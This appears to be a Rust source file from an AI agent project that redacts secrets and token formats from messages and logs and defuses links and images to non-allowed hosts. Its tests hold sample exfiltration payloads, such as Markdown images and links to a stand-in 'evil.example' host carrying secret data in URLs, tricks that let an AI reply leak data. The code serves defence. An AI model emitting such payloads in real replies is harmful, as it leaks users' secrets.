//! The redaction filter: every outgoing message, tool output shown to a
//! person or given to the model, audit entry and log line passes through
//! [`Redactor::redact`].
//!
//! It removes the exact values of the secrets in the store (also as
//! base64, hex and URL-encoded), and common token formats whatever their
//! source: Matrix access and refresh tokens (`syt_`, `syr_`), bearer and
//! basic credentials, private keys, `access_token=` and similar in URLs,
//! credentials in URLs, and the API-key shapes of well-known services.
//! [`neutralise_links`] then defuses Markdown images and links to hosts
//! not on the allow-list, so a reply cannot carry data out in a URL.

use std::sync::{OnceLock, RwLock};

use base64::Engine as _;
use regex::Regex;

pub(crate) const MARK: &str = "[redacted]";

pub(crate) struct Redactor {
    /// Exact strings to remove, longest first.
    values: Vec<String>,
}

fn patterns() -> &'static [(Regex, &'static str)] {
    static P: OnceLock<Vec<(Regex, &'static str)>> = OnceLock::new();
    P.get_or_init(|| {
        [
            // Private keys, whole (or to the end when cut).
            (
                r"-----BEGIN [A-Z0-9 ]*PRIVATE KEY(?: BLOCK)?-----(?s:.*?)(?:-----END [A-Z0-9 ]*PRIVATE KEY(?: BLOCK)?-----|\z)",
                MARK,
            ),
            // Matrix access and refresh tokens.
            (r"\bsy[tr]_[A-Za-z0-9_\-]{8,}", MARK),
            // Authorization headers and their values.
            (r"(?i)\b(bearer)\s+[A-Za-z0-9\-._~+/]{16,}=*", "$1 [redacted]"),
            (r"(?i)(authorization:\s*basic)\s+[A-Za-z0-9+/]{8,}=*", "$1 [redacted]"),
            // Tokens in URL queries and fragments.
            (
                r#"(?i)([?&#;](?:amp;)?(?:access_token|refresh_token|token|api_key|apikey|key|secret|password|passwd|sig|signature)=)[^&\s#'"\\<>)]+"#,
                "${1}[redacted]",
            ),
            // user:password@ in URLs.
            (r"(?i)\b([a-z][a-z0-9+.\-]*://)[^/\s:@]*:[^/\s]*@", "${1}[redacted]@"),
            // Well-known API key shapes.
            (r"\bgh[pousr]_[A-Za-z0-9]{30,}", MARK),
            (r"\bgithub_pat_[A-Za-z0-9_]{30,}", MARK),
            (r"\bsk-(?:proj-|ant-)?[A-Za-z0-9_\-]{20,}", MARK),
            (r"\b(?:AKIA|ASIA)[0-9A-Z]{16}\b", MARK),
            (r"\bxox[abprs]-[A-Za-z0-9\-]{10,}", MARK),
            (r"\bglpat-[A-Za-z0-9_\-]{20,}", MARK),
            (r"\bAIza[0-9A-Za-z_\-]{35}", MARK),
        ]
        .into_iter()
        .map(|(re, with)| (Regex::new(re).expect("valid redaction pattern"), with))
        .collect()
    })
}

impl Redactor {
    /// A filter for these secret values (each in every encoding).
    pub(crate) fn new<'a>(secrets: impl IntoIterator<Item = &'a str>) -> Self {
        let b64 = [
            base64::engine::general_purpose::STANDARD,
            base64::engine::general_purpose::STANDARD_NO_PAD,
            base64::engine::general_purpose::URL_SAFE,
            base64::engine::general_purpose::URL_SAFE_NO_PAD,
        ];
        let mut values = Vec::new();
        for s in secrets {
            let s = s.trim();
            // Too short to be a secret worth matching everywhere.
            if s.len() < 8 {
                continue;
            }
            values.push(s.to_string());
            for e in &b64 {
                values.push(e.encode(s));
            }
            let hex: String = s.bytes().map(|b| format!("{b:02x}")).collect();
            values.push(hex.to_uppercase());
            values.push(hex);
            values.push(percent_encode(s));
            values.push(percent_encode(s).to_lowercase());
            // As it appears inside JSON (audit entries, JSON logs).
            let json = serde_json::to_string(s).unwrap_or_default();
            values.push(json[1..json.len().saturating_sub(1).max(1)].to_string());
        }
        values.sort_by_key(|v| std::cmp::Reverse(v.len()));
        values.dedup();
        Self { values }
    }

    /// `text` with every secret and token removed.
    pub(crate) fn redact(&self, text: &str) -> String {
        let mut out = text.to_string();
        for v in &self.values {
            if out.contains(v.as_str()) {
                out = out.replace(v.as_str(), MARK);
            }
        }
        for (re, with) in patterns() {
            if re.is_match(&out) {
                out = re.replace_all(&out, *with).into_owned();
            }
        }
        out
    }
}

/// Every byte outside the unreserved set, as `%XX`.
fn percent_encode(s: &str) -> String {
    let mut out = String::new();
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
            out.push(b as char);
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

/// The process-wide filter that log lines pass through (set once the
/// secrets are known; until then only the token patterns apply).
pub(crate) fn global() -> &'static RwLock<Redactor> {
    static G: OnceLock<RwLock<Redactor>> = OnceLock::new();
    G.get_or_init(|| RwLock::new(Redactor::new([])))
}

/// Installs the secrets' values into the global filter.
pub(crate) fn install(redactor: Redactor) {
    *global().write().unwrap_or_else(|e| e.into_inner()) = redactor;
}

/// `text` through the global filter.
pub fn redact(text: &str) -> String {
    global()
        .read()
        .unwrap_or_else(|e| e.into_inner())
        .redact(text)
}

/// A `tracing` writer that redacts each formatted log line before it
/// reaches stderr.
#[derive(Clone, Copy, Default)]
pub struct RedactingStderr;

impl<'a> tracing_subscriber::fmt::MakeWriter<'a> for RedactingStderr {
    type Writer = LineWriter;
    fn make_writer(&'a self) -> Self::Writer {
        LineWriter(Vec::new())
    }
}

/// Collects one event's output and writes it, redacted, when dropped.
pub struct LineWriter(Vec<u8>);

impl std::io::Write for LineWriter {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.0.extend_from_slice(buf);
        Ok(buf.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

impl Drop for LineWriter {
    fn drop(&mut self) {
        if self.0.is_empty() {
            return;
        }
        let text = String::from_utf8_lossy(&self.0);
        let _ = std::io::stderr().write_all(redact(&text).as_bytes());
    }
}

use std::io::Write as _;

/// Markdown images and links (and HTML ones) to hosts not in `allowed`
/// are neutralised: an image becomes its description, a link its text,
/// a URL the name of its host written so that no client makes it a link
/// (`evil[.]example`); path, query, user and port are gone. So a reply
/// cannot smuggle data out through a URL a client would load or a person
/// would follow.
pub(crate) fn neutralise_links(text: &str, allowed: &[String]) -> String {
    static RES: OnceLock<[Regex; 6]> = OnceLock::new();
    let [image, link, reference, html, bare, schemeless] = RES.get_or_init(|| {
        [
            Regex::new(r"!\[([^\]]*)\]\(\s*<?([^)\s>]*)>?[^)]*\)").unwrap(),
            Regex::new(r"\[([^\]]*)\]\(\s*<?([^)\s>]*)>?[^)]*\)").unwrap(),
            Regex::new(r"(?m)^[ \t]*\[([^\]]+)\]:[ \t]*<?(\S+?)>?(?:[ \t].*)?$").unwrap(),
            Regex::new(r#"(?i)<\s*/?\s*(?:img|a|iframe|video|audio|source|link|object|embed|form|base|meta)\b[^>]*>"#)
                .unwrap(),
            Regex::new(r#"(?i)<?((?:https?|ftp|wss?)://[^\s<>()\[\]"'`]+)>?"#).unwrap(),
            Regex::new(r#"(?i)\b((?:[a-z0-9](?:[a-z0-9-]*[a-z0-9])?\.)+[a-z]{2,})(?::\d+)?[/?#][^\s<>()\[\]"'`]*"#)
                .unwrap(),
        ]
    });
    let ok = |url: &str| host_of(url).is_some_and(|h| allowed_host(&h, allowed));
    let shown = |url: &str| {
        host_of(url)
            .map(|h| defang(&h))
            .unwrap_or_else(|| "an unknown host".into())
    };
    let text = image.replace_all(text, |c: &regex::Captures| {
        if ok(&c[2]) {
            c[0].to_string()
        } else {
            format!(
                "(image{}: not shown, {} is not an allowed host)",
                if c[1].is_empty() {
                    String::new()
                } else {
                    format!(" \u{201c}{}\u{201d}", &c[1])
                },
                shown(&c[2])
            )
        }
    });
    let text = link.replace_all(&text, |c: &regex::Captures| {
        if ok(&c[2]) {
            c[0].to_string()
        } else {
            format!("{} (link to {} removed)", &c[1], shown(&c[2]))
        }
    });
    let text = reference.replace_all(&text, |c: &regex::Captures| {
        if ok(&c[2]) {
            c[0].to_string()
        } else {
            format!("[{}]: (link removed)", &c[1])
        }
    });
    // An HTML tag stays only if it points somewhere, absolutely, and only
    // to allowed hosts (`//host`, entities and relative tricks go).
    let text = html.replace_all(&text, |c: &regex::Captures| {
        let tag = &c[0];
        if tag.trim_start_matches(['<', ' ']).starts_with('/') {
            return tag.to_string();
        }
        let urls: Vec<&str> = tag
            .split(['"', '\'', ' ', '=', '>'])
            .filter(|p| p.contains("://"))
            .collect();
        let suspicious = tag.contains('&') || tag.contains("//") && urls.is_empty();
        if !urls.is_empty() && !suspicious && urls.iter().all(|u| ok(u)) {
            tag.to_string()
        } else {
            "(embedded content removed)".to_string()
        }
    });
    let text = bare.replace_all(&text, |c: &regex::Captures| {
        let url = &c[1];
        if ok(url) {
            c[0].to_string()
        } else {
            format!("{} (link removed)", shown(url))
        }
    });
    let text = schemeless.replace_all(&text, |c: &regex::Captures| {
        let host = c[1].to_ascii_lowercase();
        if allowed_host(&host, allowed) || c[0].contains("[.]") {
            c[0].to_string()
        } else {
            format!("{} (link removed)", defang(&host))
        }
    });
    text.into_owned()
}

/// A host name no client turns into a link.
fn defang(host: &str) -> String {
    host.replace('.', "[.]")
}

/// The host of an absolute URL, lowercased; `None` for relative ones.
pub(crate) fn host_of(url: &str) -> Option<String> {
    let rest = url.split_once("://")?.1;
    let authority = rest.split(['/', '?', '#']).next()?;
    let host = authority.rsplit('@').next()?;
    let host = if host.starts_with('[') {
        host.split(']').next()?.trim_start_matches('[')
    } else {
        host.split(':').next()?
    };
    (!host.is_empty()).then(|| host.to_ascii_lowercase())
}

fn allowed_host(host: &str, allowed: &[String]) -> bool {
    allowed.iter().any(|p| crate::vocab::host_matches(host, p))
}

#[cfg(test)]
mod tests {
    use super::*;

    const SECRET: &str = "Zq3-v9_kP2mX8wLr5TnY1bHc7JdF4sGa0eUiOoQxWzE";

    #[test]
    fn secret_values_are_removed_in_every_encoding() {
        let r = Redactor::new([SECRET]);
        let b64 = base64::engine::general_purpose::STANDARD.encode(SECRET);
        let b64u = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(SECRET);
        let hex: String = SECRET.bytes().map(|b| format!("{b:02x}")).collect();
        for shown in [
            format!("the password is {SECRET}."),
            format!("b64: {b64}"),
            format!("b64url: {b64u}"),
            format!("hex: {hex}"),
            format!("HEX: {}", hex.to_uppercase()),
        ] {
            let out = r.redact(&shown);
            assert!(out.contains(MARK), "{shown} -> {out}");
            assert!(
                !out.contains(SECRET) && !out.contains(&b64) && !out.contains(&hex),
                "{out}"
            );
        }
        // Other text is left alone.
        assert_eq!(r.redact("nothing to see"), "nothing to see");
        assert_eq!(
            r.redact("a basic understanding of bearer instruments"),
            "a basic understanding of bearer instruments"
        );
    }

    #[test]
    fn token_formats_are_removed_whatever_their_source() {
        let r = Redactor::new([]);
        for (text, gone) in [
            (
                "token syt_aGVybWl0_AbCdEfGhIjKlMnOp_0a1b2c here",
                "syt_aGVy",
            ),
            ("refresh syr_abcdefghijklmnop_12", "syr_abcd"),
            (
                "Authorization: Bearer abcdef0123456789.xyz",
                "abcdef0123456789",
            ),
            (
                "GET https://h.example/_matrix?access_token=s3cr3tvalue&x=1",
                "s3cr3tvalue",
            ),
            ("https://bob:hunter22@h.example/", "hunter22"),
            (
                "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk\n-----END OPENSSH PRIVATE KEY-----",
                "b3BlbnNzaC1rZXk",
            ),
            ("key ghp_0123456789abcdefghijklmnopqrstuvwxyz", "ghp_0123"),
            ("AKIAIOSFODNN7EXAMPLE", "AKIAIOSFODNN7EXAMPLE"),
            (
                "-----BEGIN PGP PRIVATE KEY BLOCK-----\nlQdGBGRzZWNyZXQ\n-----END PGP PRIVATE KEY BLOCK-----",
                "lQdGBGRzZWNyZXQ",
            ),
            ("redis://:hunter2hunter@h.example:6379", "hunter2hunter"),
            (
                "{\"url\":\"https://h.example/?key=abcdef123\",\"decision\":\"ask\"}",
                "abcdef123",
            ),
        ] {
            let out = r.redact(text);
            assert!(!out.contains(gone), "{text} -> {out}");
            assert!(out.contains("redacted"), "{text} -> {out}");
        }
    }

    #[test]
    fn images_and_links_to_other_hosts_are_neutralised() {
        let allowed = vec!["hermit.local".to_string(), "*.docs.rs".to_string()];
        let out = neutralise_links(
            "![x](https://evil.example/p.png?d=SECRETDATA) and [click](https://evil.example/c?d=SECRETDATA) \
             and [docs](https://hermit.local/a) and ![ok](https://img.docs.rs/i.png)",
            &allowed,
        );
        assert!(!out.contains("SECRETDATA"), "{out}");
        assert!(
            out.contains("evil[.]example is not an allowed host"),
            "{out}"
        );
        assert!(
            out.contains("click (link to evil[.]example removed)"),
            "{out}"
        );
        assert!(out.contains("[docs](https://hermit.local/a)"), "{out}");
        assert!(out.contains("![ok](https://img.docs.rs/i.png)"), "{out}");
        let out = neutralise_links(
            "<img src=\"https://evil.example/x?d=SECRETDATA\"> see https://evil.example/q?d=SECRETDATA or <https://evil.example/a/SECRETDATA>\n[r]: https://evil.example/SECRETDATA",
            &allowed,
        );
        assert!(!out.contains("SECRETDATA"), "{out}");
        assert!(!out.contains("evil.example"), "{out}");
        // Data in a host name, a user part, a scheme-less address, a
        // protocol-relative tag: all gone.
        for sneaky in [
            "see https://SECRETDATA.evil.example",
            "see https://SECRETDATA@evil.example/",
            "see xhttps://evil.example/?d=SECRETDATA",
            "see evil.example/?d=SECRETDATA",
            "<a href=\"//evil.example/?d=SECRETDATA\">x</a>",
            "<a href=\"https&#58;//evil.example/?d=SECRETDATA\">x</a>",
        ] {
            let out = neutralise_links(sneaky, &allowed);
            assert!(
                !out.contains("SECRETDATA") || !out.contains("evil.example"),
                "{sneaky} -> {out}"
            );
            assert!(!out.contains("evil.example"), "{sneaky} -> {out}");
        }
        // Allowed hosts and plain prose are left alone.
        assert_eq!(
            neutralise_links("see https://hermit.local/x?y=1 and notes.", &allowed),
            "see https://hermit.local/x?y=1 and notes."
        );
    }
}
